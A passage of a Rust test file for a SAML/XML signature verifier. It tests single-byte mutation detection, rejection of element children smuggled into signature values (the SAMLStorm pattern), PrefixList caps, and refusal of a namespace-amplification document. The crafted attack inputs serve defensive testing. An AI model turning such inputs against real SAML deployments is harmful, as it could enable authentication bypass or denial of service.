    insignificant_rejected: usize,
    codes: BTreeMap<&'static str, usize>,
    /// Significant mutations that verified: each one a bug.
    violations: Vec<String>,
}

impl Tally {
    fn add(&mut self, o: Tally) {
        self.total += o.total;
        self.rejected += o.rejected;
        self.insignificant += o.insignificant;
        self.insignificant_rejected += o.insignificant_rejected;
        for (k, v) in o.codes {
            *self.codes.entry(k).or_default() += v;
        }
        self.violations.extend(o.violations);
    }
}

fn mutate_range(
    signed: &str,
    offsets: Range<usize>,
    target: Target,
    want: &(Vec<u8>, Option<Vec<u8>>),
) -> Tally {
    let mut t = Tally::default();
    let mut bytes = signed.as_bytes().to_vec();
    for off in offsets {
        let b = signed.as_bytes()[off];
        let letter = if b == b'Z' { b'Q' } else { b'Z' };
        let mut mutations = vec![b ^ 0x01];
        if letter != b ^ 0x01 {
            mutations.push(letter);
        }
        // White space for other white space: the one kind of change that can be insignificant
        // (between attributes), so the oracle's "accept" branch is exercised too.
        match b {
            b' ' => mutations.push(b'\n'),
            b'\n' | b'\t' => mutations.push(b' '),
            _ => {}
        }
        for m in mutations {
            bytes[off] = m;
            t.total += 1;
            let code = match std::str::from_utf8(&bytes) {
                Err(_) => {
                    t.rejected += 1;
                    *t.codes.entry("xml_invalid_utf8").or_default() += 1;
                    continue;
                }
                Ok(text) => match parse(text) {
                    Err(e) => Err((e.code(), None)),
                    Ok(doc) => match target_of(&doc, target) {
                        None => Err(("consumer_no_signed_element", None)),
                        Some(el) => {
                            let same = canon_pair(el) == *want;
                            match verify(el, idp_keys(), &Policy::default()) {
                                Ok(_) => Ok(same),
                                Err(e) => Err((e.code(), Some(same))),
                            }
                        }
                    },
                },
            };
            match code {
                Err((c, same)) => {
                    t.rejected += 1;
                    *t.codes.entry(c).or_default() += 1;
                    if same == Some(true) {
                        t.insignificant += 1;
                        t.insignificant_rejected += 1;
                    }
                }
                Ok(true) => t.insignificant += 1,
                Ok(false) => t.violations.push(format!(
                    "{target:?}: byte {off} {:?} -> {:?} verified with a different canonical form",
                    b as char, m as char
                )),
            }
        }
        bytes[off] = b;
    }
    t
}

#[test]
fn any_single_byte_change_is_detected() {
    let start = Instant::now();
    let signed = both();
    let doc = parse(signed).unwrap();
    let response = doc.root();
    let assertion = doc.element_by_id(AID).unwrap();
    let resp_si = child(
        child(response, DSIG_NS, "Signature").unwrap(),
        DSIG_NS,
        "SignedInfo",
    )
    .unwrap()
    .span();
    let assert_si = child(
        child(assertion, DSIG_NS, "Signature").unwrap(),
        DSIG_NS,
        "SignedInfo",
    )
    .unwrap()
    .span();
    // The Assertion's SignedInfo lies inside the Assertion: covered by the first region.
    assert!(assertion.span().start < assert_si.start && assert_si.end < assertion.span().end);
    let regions = [
        (
            "Assertion (incl. its SignedInfo)",
            assertion.span(),
            Target::Assertion,
        ),
        ("Response SignedInfo", resp_si, Target::Response),
    ];
    let wants = [canon_pair(assertion), canon_pair(response)];

    let threads = std::thread::available_parallelism()
        .map_or(2, |n| n.get())
        .min(8);
    let mut total = Tally::default();
    for ((name, span, target), want) in regions.iter().zip(&wants) {
        let chunk = span.len().div_ceil(threads);
        let region = std::thread::scope(|sc| {
            let handles: Vec<_> = (0..threads)
                .map(|i| {
                    let from = span.start + i * chunk;
                    let to = (from + chunk).min(span.end);
                    sc.spawn(move || mutate_range(signed, from..to.max(from), *target, want))
                })
                .collect();
            let mut t = Tally::default();
            for h in handles {
                t.add(h.join().unwrap());
            }
            t
        });
        eprintln!(
            "{name}: {} bytes, {} mutations, {} rejected; {} insignificant \
             ({} accepted, {} rejected: SignatureValue/KeyInfo values changed)",
            span.len(),
            region.total,
            region.rejected,
            region.insignificant,
            region.insignificant - region.insignificant_rejected,
            region.insignificant_rejected
        );
        total.add(region);
    }
    eprintln!("rejections by code: {:?}", total.codes);
    eprintln!(
        "total: {} mutations, {} rejected ({:.2}%), {} insignificant, in {:?}",
        total.total,
        total.rejected,
        100.0 * total.rejected as f64 / total.total as f64,
        total.insignificant,
        start.elapsed()
    );
    assert!(
        total.violations.is_empty(),
        "significant mutations accepted:\n{}",
        total.violations.join("\n")
    );
    assert!(
        total.rejected * 100 >= total.total * 95,
        "only {} of {} mutations rejected",
        total.rejected,
        total.total
    );
}

// === A16 (defence as written in the reference): signature values are text only ===

/// The reference's A16 defence: read `DigestValue` / `SignatureValue` (and, by the same rule,
/// `X509Certificate`) "as the concatenation of text only and reject any non-text child", so
/// that no second reader could see another value than the one checked (the SAMLStorm pattern).
/// This test failed until `verify` refused non-text content in value elements (49c96c8).
#[test]
fn element_inside_signature_values_is_rejected() {
    let s = assertion_only();
    let with_child = |local: &str| {
        let r = sig_part(s, AID, local);
        let open = format!("<ds:{local}>");
        assert!(s[r.clone()].starts_with(&open), "{local}");
        insert(s, r.start + open.len(), "<ds:Object/>")
    };
    let locals = ["SignatureValue", "X509Certificate", "DigestValue"];
    let got: Vec<_> = locals
        .iter()
        .map(|&l| (l, verify_code(&with_child(l), AID)))
        .collect();
    let want: Vec<_> = locals
        .iter()
        .map(|&l| (l, "dsig_unexpected_structure"))
        .collect();
    assert_eq!(
        got, want,
        "an element child of a signature value must be refused"
    );
}

// === A19. Algorithmic complexity (issue 17) ===

/// The assertion-only fixture with the reference's exc-c14n transform carrying this
/// PrefixList, signed by xmlsec1.
fn signed_with_prefix_list(list: &str) -> String {
    signed_variant(Key::Rsa2048, |t| {
        one(
            t,
            EXC_TRANSFORM,
            &format!(
                "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\">\
                 <ec:InclusiveNamespaces xmlns:ec=\"http://www.w3.org/2001/10/xml-exc-c14n#\" \
                 PrefixList=\"{list}\"/></ds:Transform>"
            ),
        )
    })
}

#[test]
fn prefix_list_over_the_cap_is_rejected() {
    // Issue 17: each listed prefix cost work on every element. 65 distinct NCNames, signed
    // and genuine, refused before any canonicalization.
    let list: Vec<String> = (0..=xmldsig::MAX_INCLUSIVE_PREFIXES)
        .map(|i| format!("p{i}"))
        .collect();
    let x = signed_with_prefix_list(&list.join(" "));
    assert_genuine(&x);
    assert_eq!(verify_code(&x, AID), "dsig_invalid_prefix_list");
    // The cap counts entries as written: 65 copies of one prefix are refused too.
    let x = signed_with_prefix_list(&vec!["xs"; 65].join(" "));
    assert_eq!(verify_code(&x, AID), "dsig_invalid_prefix_list");
}

#[test]
fn prefix_list_entry_that_is_not_a_prefix_is_rejected() {
    for list in ["xs saml:x", "xs #all", "1xs", "xs -a", "#Default"] {
        let x = signed_with_prefix_list(list);
        assert_genuine(&x);
        assert_eq!(verify_code(&x, AID), "dsig_invalid_prefix_list", "{list}");
    }
}

#[test]
fn prefix_list_at_the_cap_with_repeats_and_default_verifies() {
    // Positive control: 64 entries, `#default`, prefixes in scope and not, repeats (removed
    // before use): xmlsec1 and we compute the same digest, so the signature verifies.
    let mut list = vec!["#default", "xs", "xsi", "saml", "samlp", "ds", "xs", "saml"];
    let extra: Vec<String> = (0..56).map(|i| format!("unused{i}")).collect();
    list.extend(extra.iter().map(String::as_str));
    assert_eq!(list.len(), xmldsig::MAX_INCLUSIVE_PREFIXES);
    let x = signed_with_prefix_list(&list.join(" "));
    assert_genuine(&x);
    assert_eq!(verify_code(&x, AID), "ok");
}

#[test]
fn namespace_output_amplification_is_rejected() {
    // One long namespace URI declared once on the Response, used by many empty sibling
    // elements inside the Assertion: exclusive C14N writes the declaration on every one of
    // them, so the canonical form grows with elements x URI length (here about 40 times the
    // source). xmlsec1 signs it; we refuse it by the output bound, before hashing it.
    let uri = format!("urn:long:{}", "x".repeat(20_000));
    let siblings = "<big:e/>".repeat(800);
    let x = signed_variant(Key::Rsa2048, |t| {
        let t = one(
            t,
            "<samlp:Response ",
            &format!("<samlp:Response xmlns:big=\"{uri}\" "),
        );
        one(
            &t,
            "</saml:Assertion>",
            &format!("<saml:Advice>{siblings}</saml:Advice></saml:Assertion>"),
        )
    });
    assert_genuine(&x);
    let (code, steps) = saml_xml::work::measure(|| verify_code(&x, AID));
    assert_eq!(code, "dsig_c14n_too_large");
    // The refusal came early: the work is a small multiple of the input, not of the output.
    assert!(
        steps < 8 * x.len() as u64,
        "{steps} steps for {} bytes",
        x.len()
    );
}
